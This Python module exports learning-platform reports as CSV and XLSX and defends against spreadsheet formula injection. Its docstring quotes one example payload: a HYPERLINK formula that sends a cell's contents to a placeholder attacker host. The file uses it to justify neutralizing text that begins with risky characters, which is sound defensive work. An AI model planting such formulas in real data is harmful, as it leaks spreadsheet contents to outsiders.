"""Spreadsheet downloads: tabular rows as CSV or XLSX.

Used by teachers' class-progress downloads and administrators' completion reports. The module
knows nothing about the database or Flask: callers hand it a header and an iterable of rows
(a list, or better a generator over a query, so that a large report is never held in memory)
and get back CSV text chunks or an XLSX file.

Safety: formula injection
    A learner can type ``=HYPERLINK("http://evil/?"&A1, "Bấm vào đây")`` as their name. If a
    spreadsheet program treats that cell as a formula when a teacher opens the export, the
    learner runs code in the teacher's spreadsheet. Every *text* cell therefore goes through
    :func:`neutralize`, which prefixes risky text with an apostrophe (the OWASP "CSV
    injection" rule). Real numbers, dates and booleans are written as such and never
    prefixed, so ``-3`` stays a number and still sums.

Text
    Text is NFC-normalized (some keyboards send Vietnamese letters decomposed into a base letter
    plus combining marks, which sort and search badly in spreadsheets) and control characters
    that XML cannot hold are dropped.

Times
    The database hands out timezone-aware UTC datetimes; exports show local wall-clock time.
    Aware datetimes are converted to ``tz`` (default ``Asia/Ho_Chi_Minh``, the site's
    ``BABEL_DEFAULT_TIMEZONE``); naive ones are taken to be local already.

Which format
    CSV is for other programs, LibreOffice and Google Sheets. Excel on a Vietnamese Windows
    expects ``;`` between fields and ``,`` as the decimal mark, so for people who open files in
    Excel, offer XLSX: it keeps numbers as numbers, dates as dates, and text such as phone
    numbers (``0912…``) as text.

Serving from a Flask view (a generator that queries the database needs the request context)::

    from flask import Response, stream_with_context
    return Response(
        stream_with_context(csv_stream(title_rows, header, rows)),
        mimetype=CSV_MIMETYPE,
        headers={"Content-Disposition": content_disposition("tien-do-lop-6A.csv")},
    )

    return Response(
        xlsx_stream(title, subtitle, header, rows, number_formats={"Hoàn thành (%)": "0.0"}),
        mimetype=XLSX_MIMETYPE,
        headers={"Content-Disposition": content_disposition("báo cáo.xlsx")},
    )
"""
from __future__ import annotations

import csv
import io
import math
import re
import tempfile
import unicodedata
from collections.abc import Iterable, Iterator, Mapping, Sequence
from datetime import date, datetime, time, tzinfo
from decimal import Decimal
from itertools import chain, islice
from typing import IO, Any, Optional, Union
from urllib.parse import quote
from zoneinfo import ZoneInfo

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter

from lms.text import strip_marks

__all__ = [
    "BOM",
    "CSV_MIMETYPE",
    "DANGEROUS_PREFIXES",
    "HEADER_ROW",
    "LOCAL_TZ",
    "XLSX_MIMETYPE",
    "content_disposition",
    "csv_stream",
    "neutralize",
    "safe_sheet_title",
    "xlsx_bytes",
    "xlsx_stream",
]

CSV_MIMETYPE = "text/csv"  # Flask/Werkzeug append "; charset=utf-8" to text/* types
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

BOM = "\ufeff"  # lets Excel recognise a CSV file as UTF-8 instead of the Windows code page
LOCAL_TZ = ZoneInfo("Asia/Ho_Chi_Minh")

#: First characters that make a spreadsheet program read a cell as a formula (``=``, ``+``,
#: ``-``, ``@``) or that can hide such a character at the start of a cell (tab, carriage return).
DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Values that are not text: written as real numbers, dates or booleans, never prefixed.
# bool is a subclass of int and datetime a subclass of date, so both are covered.
_NOT_TEXT = (int, float, Decimal, date, time, type(None))

# ---- layout of the XLSX sheet (1-based rows, as spreadsheets count) -------------------------
TITLE_ROW = 1
SUBTITLE_ROW = 2
HEADER_ROW = 4  # row 3 stays empty; data starts on HEADER_ROW + 1, where panes are frozen

DATE_FORMAT = "dd/mm/yyyy"
DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
TIME_FORMAT = "hh:mm"

XLSX_MAX_ROWS = 1_048_576  # Excel's limit; beyond it Excel reports the file as damaged
XLSX_MAX_TEXT = 32_767  # Excel's limit on the characters of one cell
SHEET_TITLE_MAX = 31  # Excel's limit, counted in UTF-16 code units

WIDTH_SAMPLE_ROWS = 100  # rows read ahead to estimate column widths
MIN_WIDTH, MAX_WIDTH = 8, 60  # in "characters", the unit of openpyxl's column widths
HEADER_WIDTH_CAP = 24  # a long header wraps instead of widening its column past this

CSV_CHUNK_SIZE = 16 * 1024  # characters gathered before a CSV chunk is yielded
XLSX_CHUNK_SIZE = 64 * 1024  # bytes per chunk of xlsx_stream
SPOOL_MAX_BYTES = 8 * 1024 * 1024  # an XLSX file larger than this goes to a temporary file

_TITLE_FONT = Font(bold=True, size=14)
_SUBTITLE_FONT = Font(italic=True, color="595959")
_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill(fill_type="solid", fgColor="DDEBF7")
_THIN = Side(style="thin", color="808080")
_HEADER_BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
_HEADER_ALIGNMENT = Alignment(wrap_text=True, vertical="center", horizontal="center")

_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
_CONTROL = re.compile(r"[\x00-\x1f\x7f]")

ColumnSpec = Union[Mapping[Union[int, str], Any], Sequence[Any], None]


# ---- formula injection ------------------------------------------------------------------------


def neutralize(value: Any) -> Any:
    """Make ``value`` safe to put in a spreadsheet cell.

    The rule:

    * text whose first character is ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
      leading apostrophe, so Excel and LibreOffice show it as text instead of running it as a
      formula: ``"=1+2"`` becomes ``"'=1+2"``, and so does text that is merely ``"-"``;
    * other text, including the empty string, is returned unchanged;
    * numbers (``int``, ``float``, ``Decimal``), booleans, ``None``, dates, datetimes and times
      are returned unchanged: a real negative number stays a number;
    * anything else is turned into text first (``str(value)``) and then checked like text, so
      an object whose text starts with ``=`` cannot slip through.

    Subclasses of ``str`` (``Markup``, string enums) come back as plain ``str`` holding their
    characters: adding the apostrophe to a ``Markup`` would HTML-escape it.
    """
    if isinstance(value, str):
        text = value if type(value) is str else str.__str__(value)
        return "'" + text if text.startswith(DANGEROUS_PREFIXES) else text
    if isinstance(value, _NOT_TEXT):
        return value
    return neutralize(str(value))


def _clean_text(value: Any) -> str:
    """Text as written to a file: plain str, NFC, without XML-illegal control characters."""
    if type(value) is str:
        text = value
    else:
        text = str.__str__(value) if isinstance(value, str) else str(value)
    return ILLEGAL_CHARACTERS_RE.sub("", unicodedata.normalize("NFC", text))


def _safe_text(value: Any) -> str:
    return neutralize(_clean_text(value))


def _is_number(value: Any) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def _is_finite(value: Any) -> bool:
    """False for NaN and infinities, which no spreadsheet can store as a number."""
    if isinstance(value, float):
        return math.isfinite(value)
    if isinstance(value, Decimal):
        return value.is_finite()
    return True


def _local(moment: datetime, tz: tzinfo) -> datetime:
    """Wall-clock time in ``tz`` without a zone (spreadsheets have no time zones)."""
    if moment.tzinfo is not None and moment.utcoffset() is not None:
        moment = moment.astimezone(tz)
    return moment.replace(tzinfo=None)


# ---- CSV ----------------------------------------------------------------------------------------


_HAS_ILLEGAL = ILLEGAL_CHARACTERS_RE.search


def _csv_cell(value: Any, tz: tzinfo) -> str:
    # The common cases first and inline: a report writes hundreds of thousands of cells.
    kind = type(value)
    if kind is str:
        text = value if unicodedata.is_normalized("NFC", value) else unicodedata.normalize("NFC", value)
        if _HAS_ILLEGAL(text):
            text = ILLEGAL_CHARACTERS_RE.sub("", text)
        return "'" + text if text.startswith(DANGEROUS_PREFIXES) else text
    if kind is int:
        return str(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, datetime):
        return _local(value, tz).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, time):
        return value.strftime("%H:%M")
    if _is_number(value):
        return str(value) if _is_finite(value) else ""
    return _safe_text(value)


def _drain(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text


def csv_stream(
    title_rows: Optional[Iterable[Union[str, Iterable[Any]]]],
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    delimiter: str = ",",
    chunk_size: int = CSV_CHUNK_SIZE,
    tz: tzinfo = LOCAL_TZ,
) -> Iterator[str]:
    """Yield a CSV file as text chunks, reading ``rows`` one at a time.

    The first chunk starts with the UTF-8 byte order mark :data:`BOM`, so Excel shows
    Vietnamese letters correctly, followed by the ``title_rows`` (each a row of cells, or a
    plain string for a one-cell row; ``None`` or empty for none) and the ``header``. It is
    yielded before the first data row is read, so the download starts at once. Data rows
    follow in chunks of about ``chunk_size`` characters; ``rows`` is consumed lazily and the
    whole file is never held in memory.

    Cells: text is neutralized (see :func:`neutralize`), ``None`` is empty, dates are
    ``yyyy-mm-dd``, datetimes ``yyyy-mm-dd HH:MM`` (local time, see the module notes), times
    ``HH:MM``, booleans ``TRUE``/``FALSE``, numbers as Python writes them. Lines end in CRLF
    and fields are quoted only when needed (RFC 4180).

    The chunks are ``str``; a WSGI response encodes them as UTF-8.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    buffer.write(BOM)
    for title_row in title_rows or ():
        cells = (title_row,) if isinstance(title_row, str) else title_row
        writer.writerow([_csv_cell(value, tz) for value in cells])
    writer.writerow([_csv_cell(value, tz) for value in header])
    yield _drain(buffer)

    for row in rows:
        writer.writerow([_csv_cell(value, tz) for value in row])
        if buffer.tell() >= chunk_size:
            yield _drain(buffer)
    rest = _drain(buffer)
    if rest:
        yield rest


# ---- XLSX ---------------------------------------------------------------------------------------


def safe_sheet_title(text: Any, fallback: str = "Sheet1") -> str:
    """A worksheet name Excel accepts, made from ``text``.

    ``/`` and ``\\`` become ``-``, ``[ ] : * ?`` become spaces ("Lớp 6/1: [HK2]" -> "Lớp 6-1
    HK2"), control characters are dropped, runs of spaces collapse, the name may not start or
    end with an apostrophe, it is cut to 31 characters (UTF-16 code units, as Excel counts),
    "History" (reserved by Excel) gets a suffix, and an empty result becomes ``fallback``.
    """
    title = unicodedata.normalize("NFC", "" if text is None else str(text))
    title = _CONTROL.sub("", title).replace("/", "-").replace("\\", "-")
    title = _SHEET_TITLE_FORBIDDEN.sub(" ", title)
    title = " ".join(title.split()).strip("'").strip()
    while len(title.encode("utf-16-le")) // 2 > SHEET_TITLE_MAX:
        title = title[:-1]
    title = title.rstrip().rstrip("'").rstrip()
    if title.casefold() == "history":
        title += " (1)"
    return title or fallback


def _per_column(spec: ColumnSpec, header: Sequence[Any], what: str) -> list[Any]:
    """One entry per header column from a sequence (by position) or a mapping whose keys are
    0-based column numbers or header texts. Missing entries are ``None``."""
    result: list[Any] = [None] * len(header)
    if spec is None:
        return result
    if isinstance(spec, Mapping):
        names = {str(name): index for index, name in enumerate(header)}
        for key, value in spec.items():
            index = key if isinstance(key, int) else names.get(str(key))
            if index is None or not 0 <= index < len(header):
                raise ValueError(f"{what}: no column {key!r} in the header")
            result[index] = value
        return result
    if isinstance(spec, (str, bytes)):
        raise TypeError(f"{what}: expected a sequence or mapping, not a string")
    for index, value in enumerate(spec):
        if index >= len(header):
            raise ValueError(f"{what}: {len(spec)} entries for {len(header)} columns")
        result[index] = value
    return result


def _text_width(text: str) -> int:
    return max((len(line) for line in text.splitlines()), default=0)


def _value_width(value: Any) -> int:
    """Rough width, in characters, that ``value`` needs once written to a cell."""
    if value is None:
        return 0
    if isinstance(value, bool):
        return 5
    if isinstance(value, datetime):
        return len("dd/mm/yyyy hh:mm")
    if isinstance(value, date):
        return len(DATE_FORMAT)
    if isinstance(value, time):
        return len(TIME_FORMAT)
    if isinstance(value, float):
        return len(f"{value:.2f}") if math.isfinite(value) else 0
    if _is_number(value):
        return len(str(value))
    return _text_width(_safe_text(value))


def _column_widths(header: Sequence[Any], sample: Sequence[Sequence[Any]], given: list[Any]) -> list[float]:
    widths = []
    for index, name in enumerate(header):
        if given[index] is not None:
            widths.append(float(given[index]))
            continue
        name_text = _safe_text(name) if name is not None else ""
        longest_word = max((len(word) for word in name_text.split()), default=0)
        needed = max(longest_word, min(_text_width(name_text), HEADER_WIDTH_CAP))
        for row in sample:
            if index < len(row):
                needed = max(needed, _value_width(row[index]))
        widths.append(float(min(max(needed + 2, MIN_WIDTH), MAX_WIDTH)))
    return widths


def _styled(ws: Any, value: Any, **style: Any) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, value=value)
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def _xlsx_cell(ws: Any, value: Any, number_format: Optional[str], tz: tzinfo) -> Any:
    """What to append for one data cell: the bare value when it needs no style (cheapest in
    write-only mode), otherwise a WriteOnlyCell carrying its number format."""
    if value is None or isinstance(value, bool):
        return value
    if _is_number(value):
        if not _is_finite(value):
            return None
        return _styled(ws, value, number_format=number_format) if number_format else value
    if isinstance(value, datetime):
        return _styled(ws, _local(value, tz), number_format=number_format or DATETIME_FORMAT)
    if isinstance(value, date):
        return _styled(ws, value, number_format=number_format or DATE_FORMAT)
    if isinstance(value, time):
        return _styled(ws, value.replace(tzinfo=None), number_format=number_format or TIME_FORMAT)
    text = _safe_text(value)[:XLSX_MAX_TEXT]
    if text in ERROR_CODES:
        # openpyxl would store "#N/A" typed by a person as an error value; keep it text.
        cell = WriteOnlyCell(ws, value=text)
        cell.data_type = "s"
        return cell
    # Neutralized text never starts with "=", so openpyxl cannot take it for a formula.
    return text


def _fill_sheet(
    ws: Any,
    title: Any,
    subtitle: Any,
    header: list[Any],
    rows: Iterable[Iterable[Any]],
    formats: list[Any],
    given_widths: list[Any],
    tz: tzinfo,
) -> None:
    # Column widths and the frozen pane are written at the top of the sheet, before any
    # row, so they are settled first; the widths look at the first rows only.
    row_iter = iter(rows)
    sample = [list(row) for row in islice(row_iter, WIDTH_SAMPLE_ROWS)]
    for index, width in enumerate(_column_widths(header, sample, given_widths), start=1):
        ws.column_dimensions[get_column_letter(index)].width = width
    ws.freeze_panes = f"A{HEADER_ROW + 1}"
    ws.print_title_rows = f"{HEADER_ROW}:{HEADER_ROW}"  # the header repeats on printed pages

    ws.append([_styled(ws, _safe_text(title) if title is not None else None, font=_TITLE_FONT)])
    ws.append([_styled(ws, _safe_text(subtitle), font=_SUBTITLE_FONT)] if subtitle is not None else [])
    for _ in range(SUBTITLE_ROW + 1, HEADER_ROW):
        ws.append([])
    ws.append([
        _styled(
            ws,
            _safe_text(name) if name is not None else None,
            font=_HEADER_FONT,
            fill=_HEADER_FILL,
            border=_HEADER_BORDER,
            alignment=_HEADER_ALIGNMENT,
        )
        for name in header
    ])

    last_row = HEADER_ROW
    for row in chain(sample, row_iter):
        last_row += 1
        if last_row > XLSX_MAX_ROWS:
            raise ValueError(f"more rows than an XLSX sheet holds ({XLSX_MAX_ROWS})")
        ws.append([
            _xlsx_cell(ws, value, formats[index] if index < len(formats) else None, tz)
            for index, value in enumerate(row)
        ])
    if header:
        # Filter buttons on the header; written after the rows, at the end of the sheet.
        ws.auto_filter.ref = f"A{HEADER_ROW}:{get_column_letter(len(header))}{last_row}"


def _discard(ws: Any) -> None:
    """Delete the temporary file openpyxl streams an unfinished sheet into.

    openpyxl removes it when the workbook is saved, or else only at interpreter exit, so on a
    long-running server every failed export (a query error in the middle of the rows, say)
    would leave one behind. This reaches into openpyxl's write-only internals (pinned in
    requirements.txt; the tests cover it).
    """
    writer = getattr(ws, "_writer", None)
    if writer is None:
        return
    try:
        if not ws.closed:
            ws.close()  # finishes and closes the file openpyxl is writing
    except Exception:
        pass  # a half-written file is removed just the same
    finally:
        try:
            writer.cleanup()
        except (OSError, ValueError):
            pass  # already removed by a save that failed later on


def _write_xlsx(
    title: Any,
    subtitle: Any,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    number_formats: ColumnSpec,
    widths: ColumnSpec,
    sheet_name: Optional[str],
    tz: tzinfo,
) -> IO[bytes]:
    """Build the workbook into a spooled temporary file, rewound, and return it.

    openpyxl's write-only mode streams each appended row to its own temporary file, so
    memory stays flat however many rows there are; the finished (compressed) file stays in
    memory up to SPOOL_MAX_BYTES and moves to disk beyond that.
    """
    header = list(header)
    formats = _per_column(number_formats, header, "number_formats")
    given_widths = _per_column(widths, header, "widths")

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(safe_sheet_title(sheet_name if sheet_name is not None else title))

    spool = tempfile.SpooledTemporaryFile(max_size=SPOOL_MAX_BYTES)
    try:
        _fill_sheet(ws, title, subtitle, header, rows, formats, given_widths, tz)
        wb.save(spool)
        spool.seek(0)
    except BaseException:
        spool.close()
        _discard(ws)
        raise
    return spool


def xlsx_bytes(
    title: Any,
    subtitle: Any,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    number_formats: ColumnSpec = None,
    widths: ColumnSpec = None,
    sheet_name: Optional[str] = None,
    tz: tzinfo = LOCAL_TZ,
) -> bytes:
    """An XLSX workbook with one sheet, as bytes.

    Layout: row 1 the ``title`` (bold, larger), row 2 the ``subtitle`` (e.g. the date and the
    filters used; ``None`` leaves it empty), row 3 empty, row :data:`HEADER_ROW` (4) the
    ``header`` (bold, filled, bordered, wrapped, with filter buttons), data from row 5 on.
    Panes are frozen below the header and the header repeats on printed pages.

    ``rows`` may be any iterable of rows, a generator included; it is read once, row by row.
    Cells: numbers stay numbers, dates and datetimes become real dates shown ``dd/mm/yyyy``
    (``dd/mm/yyyy hh:mm``; local time, see the module notes), booleans stay booleans, ``None``
    is an empty cell, and every text cell is neutralized (see :func:`neutralize`).

    ``number_formats``: Excel number formats per column, as a sequence in header order or a
    mapping keyed by 0-based column number or header text, e.g. ``{"Hoàn thành (%)": "0.0"}``
    for 85.0, or ``"0.0%"`` for a fraction such as 0.85. They apply to number and date cells.

    ``widths``: column widths in characters, given the same way; columns without one are
    estimated from the header and the first :data:`WIDTH_SAMPLE_ROWS` rows.

    ``sheet_name``: the worksheet's name, by default the title; either way it is made valid
    with :func:`safe_sheet_title`.
    """
    with _write_xlsx(
        title, subtitle, header, rows,
        number_formats=number_formats, widths=widths, sheet_name=sheet_name, tz=tz,
    ) as spool:
        return spool.read()


def xlsx_stream(
    title: Any,
    subtitle: Any,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    number_formats: ColumnSpec = None,
    widths: ColumnSpec = None,
    sheet_name: Optional[str] = None,
    tz: tzinfo = LOCAL_TZ,
    chunk_size: int = XLSX_CHUNK_SIZE,
) -> Iterator[bytes]:
    """The same workbook as :func:`xlsx_bytes`, as an iterator of byte chunks.

    A ZIP archive cannot be sent before it is finished, so the workbook is built *now*, when
    this function is called (inside the view, where the database session is open, and where
    an error can still become an error page), into a spooled temporary file. The iterator
    then reads that file in ``chunk_size`` pieces and closes it when done or closed.
    """
    spool = _write_xlsx(
        title, subtitle, header, rows,
        number_formats=number_formats, widths=widths, sheet_name=sheet_name, tz=tz,
    )
    return _read_chunks(spool, chunk_size)


def _read_chunks(spool: IO[bytes], chunk_size: int) -> Iterator[bytes]:
    try:
        while chunk := spool.read(chunk_size):
            yield chunk
    finally:
        spool.close()


# ---- HTTP ---------------------------------------------------------------------------------------


def content_disposition(filename: str) -> str:
    """A ``Content-Disposition: attachment`` value for a file name that may hold Vietnamese
    letters: an ASCII fallback (``báo cáo đợt 1.xlsx`` -> ``bao_cao_dot_1.xlsx``) for old
    clients and the exact name as RFC 5987 ``filename*``."""
    name = unicodedata.normalize("NFC", _CONTROL.sub("", filename)).strip() or "download"
    plain = re.sub(r"[^A-Za-z0-9._-]+", "_", strip_marks(name)).strip("_") or "download"
    return f"attachment; filename=\"{plain}\"; filename*=UTF-8''{quote(name, safe='')}"


def ascii_slug(text: str, fallback: str = "tep") -> str:
    """A file-name piece from Vietnamese text: "Lớp Đắk Lắk" → "lop-dak-lak"."""
    plain = strip_marks(text or "").encode("ascii", "ignore").decode().lower()
    return re.sub(r"[^a-z0-9]+", "-", plain).strip("-") or fallback
